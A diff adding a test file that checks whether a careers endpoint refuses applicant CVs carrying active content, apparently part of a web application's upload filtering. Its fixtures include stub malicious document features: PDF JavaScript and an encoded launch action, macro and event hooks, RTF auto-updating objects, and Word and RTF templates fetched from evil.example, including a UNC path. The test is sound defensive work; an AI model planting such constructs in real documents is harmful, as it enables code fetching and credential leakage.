@@ -1,0 +1,76 @@
+import { deflateSync } from 'node:zlib';
+import { expect, test } from 'vitest';
+import { apiPaths } from '../../shared/paths.ts';
+import { openApp } from '../../test/support/api.ts';
+import { base64, docx, odt, rtf } from '../../test/support/documents.ts';
+import { careers, emailBody, storedSubmissions } from '../../test/support/email.ts';
+import { onEachEngine } from '../../test/support/engines.ts';
+
+const rels = (type: string, target: string) =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+const settings = (target: string) => ({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', target) });
+const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
+const pdfOf = (text: string) => latin1(`%PDF-1.7\n1 0 obj ${text} endobj\n`);
+const packed = (text: string) =>
+  pdfOf(`<< /Filter /FlateDecode >> stream\n${deflateSync(text).toString('latin1')}`);
+const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
+const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');
+
+onEachEngine('documents of applicants', ({ makeContext }) => {
+  async function apply(extension: string, content: Uint8Array) {
+    const context = await makeContext();
+    const file = { filename: `cv.${extension}`, content: base64(content), type: '' };
+    const body = emailBody('careers', { ...careers, attachments: [careers.attachments[0], file] });
+    const answer = await openApp(context).request(apiPaths.email, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify(body),
+    });
+    return { answer, stored: await storedSubmissions(context) };
+  }
+
+  test.each([
+    ['an OpenDocument file with a Basic library', 'odt', odt({ 'Basic/Standard/Module1.xml': 'Sub Main' })],
+    ['an OpenDocument file with an event', 'odt', odt({ 'settings.xml': '<script:event-listener/>' })],
+    ['a PDF with JavaScript', 'pdf', pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
+    ['a PDF that starts a program', 'pdf', pdfOf('<< /OpenAction << /S /L#61unch >> >>')],
+    ['a PDF whose JavaScript is compressed', 'pdf', packed('<< /S /JavaScript >>')],
+    [
+      'an RTF file that updates an object',
+      'rtf',
+      rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
+    ],
+    ['an RTF file with a template from elsewhere', 'rtf', rtf('{\\*\\template https://evil.example/a.dotm}')],
+    ['a Word file with a template from elsewhere', 'docx', docx(settings('https://evil.example/a.dotm'))],
+    ['a Word file with a template of another machine', 'docx', docx(settings('\\\\evil.example\\a.dotm'))],
+    ['a Word file with an object', 'docx', docx({ 'word/embeddings/oleObject1.bin': ole })],
+    ['a Word file that cannot be unpacked', 'docx', docx().subarray(0, -30)],
+    [
+      'an old Word file with a package',
+      'doc',
+      latin1(`${ole}${wide('WordDocument')}\x01\0${wide('Ole10Native')}`),
+    ],
+  ])('are refused: %s', async (_what, extension, content) => {
+    const { answer, stored } = await apply(extension, content);
+    expect([answer.status, await answer.text()]).toEqual([
+      400,
+      'attachments.1: This file runs or fetches something when it is opened. Please print it to a new PDF and choose that.',
+    ]);
+    expect(stored).toEqual({ submissions: [], attachments: [], mails: [] });
+  });
+
+  test.each([
+    ['a PDF with a link', 'pdf', pdfOf('<< /S /URI /URI (https://ada.example) >>')],
+    [
+      'a Word file with a link',
+      'docx',
+      docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://ada.example') }),
+    ],
+    ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
+    ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
+    ['an RTF file with a picture', 'rtf', rtf('{\\pict\\pngblip 89504e47}')],
+  ])('are taken: %s', async (_what, extension, content) => {
+    const { answer, stored } = await apply(extension, content);
+    expect([answer.status, stored.attachments.length]).toEqual([200, 2]);
+  });
+});
